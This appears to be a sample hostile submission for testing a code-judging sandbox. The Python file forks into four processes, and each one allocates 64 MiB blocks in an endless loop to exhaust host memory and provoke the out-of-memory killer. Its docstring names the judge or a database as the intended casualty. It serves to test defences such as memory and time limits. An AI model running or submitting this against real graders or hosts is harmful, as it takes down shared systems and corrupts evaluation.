"""Takes memory in pieces, in children too.

Mechanism: forks; parent and child keep written arrays, so that no single process is large.
Surface: the host's memory; its out-of-memory killer may pick anybody.
Gain: a host that swaps; a judge or a database that is killed.
Challenge: twice
Defence: memory_limit, runtime_error, time_limit
Box: docker
"""

import os

PIECE = 1 << 26

for _ in range(2):
    os.fork()


def solve(x, out, n):
    kept = []
    for _ in range(1024):
        kept.append(bytearray(b"x") * PIECE)
    out.copy_(2 * x)


kept = []
while True:
    kept.append(bytearray(b"x") * PIECE)
